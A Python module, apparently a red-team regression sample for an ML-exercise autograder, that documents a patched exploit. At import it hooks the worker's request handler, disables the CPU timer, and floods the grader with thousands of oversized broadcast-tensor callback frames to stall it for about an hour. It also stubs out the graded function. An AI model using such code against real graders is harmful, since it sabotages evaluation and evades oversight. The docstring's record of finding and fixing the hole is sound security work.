"""Cheat (another exercise's grading, and the batch): flood the grader with work through the substitutes.

softmax_cols is wrong, so when attention is graded the grader stands the model answer in for it: the worker's proxy
sends callback frames, which the grader answers in its own process. At import this module wraps the worker's
`handle`; once softmax_cols is substituted it stops its CPU timer and queues thousands of vector-Jacobian requests,
each a 4 x 4 tensor sent as a (1000, 1000, 4, 4) broadcast view (16 M floats for the grader to compute on, a reply
of a few bytes). Before the fix the frames, already queued, were read past the call's deadline (which was only a
socket timeout) and one attention call held the grader for about an hour; now "expanded" is refused in what the
worker sends, and the deadline is checked before each callback. Found by a red-team pass on 2026-11-28.
"""
import signal
import sys
import threading
import time

import torch

calls = sys.modules.get("_grader_calls")
protocol = sys.modules.get("_grader_protocol")


def _flood() -> None:
    signal.setitimer(signal.ITIMER_PROF, 0)
    signal.signal(signal.SIGPROF, signal.SIG_IGN)
    sock = calls._channel[0]
    frame = {"callback": "vjp", "module": "softmax", "function": "softmax_cols",
             "args": protocol.encode((torch.randn(4, 4).expand(1000, 1000, 4, 4),), keep_layout=True),
             "kwargs": protocol.encode({}), "cotangents": protocol.encode([torch.zeros(1)]), "needs": [False]}

    def drain() -> None:
        while True:
            try:
                protocol.recv_frame(sock)
            except Exception:  # noqa: BLE001
                return

    threading.Thread(target=drain, daemon=True).start()
    for _ in range(10_000):
        protocol.send_frame(sock, frame)
    while True:
        time.sleep(1)


if calls is not None and protocol is not None and not getattr(calls, "_flooding", False):
    calls._flooding = True
    _handle = calls.handle

    def handle(request, modules, workdir):
        if request.get("op") == "call" and ("softmax", "softmax_cols") in calls._originals:
            _flood()
        return _handle(request, modules, workdir)

    calls.handle = handle


def softmax_cols(scores):
    return torch.zeros_like(scores)
